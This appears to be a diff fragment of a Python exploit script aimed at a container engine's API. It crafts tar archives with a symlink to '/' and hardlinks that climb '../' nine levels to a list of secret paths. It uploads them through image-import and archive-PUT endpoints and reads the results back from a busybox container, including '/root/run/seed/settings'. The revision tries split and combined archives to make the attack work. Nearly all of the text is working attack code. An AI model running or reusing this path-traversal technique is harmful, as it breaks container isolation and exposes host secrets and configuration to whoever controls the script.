@@ -53,11 +53,11 @@ report(attempt(client.images.get, "linked:1"))""",
 climbing.insert(1, ("root", {"type": tarfile.SYMTYPE, "linkname": "/"}, b""))
 for number, name in enumerate(SECRETS):
     climbing.append(("hard%d" % number, {"type": tarfile.LNKTYPE, "linkname": "../" * 9 + name[1:]}, b""))
-data = archive(*climbing)
-load(data, "/images/create?fromSrc=-&repo=built&tag=latest")
 made = client.containers.create(busybox, "cat /hard0 /hard1 /hard2 /root/run/seed/settings")
-for path in ("/", "/root", "/../../../.."):
-    ask("PUT", "/containers/%s/archive?path=%s" % (made.id, path), data, "application/x-tar")
+for data in (archive(*climbing[:3]), archive(*climbing[3:]), archive(*climbing)):
+    load(data, "/images/create?fromSrc=-&repo=built&tag=latest")
+    for path in ("/", "/root", "/../../../.."):
+        ask("PUT", "/containers/%s/archive?path=%s" % (made.id, path), data, "application/x-tar")
 report(shows(output(made)))
 print(ask("GET", "/containers/%s/archive?path=/root/run/seed" % made.id)[0])
 for name in SECRETS:
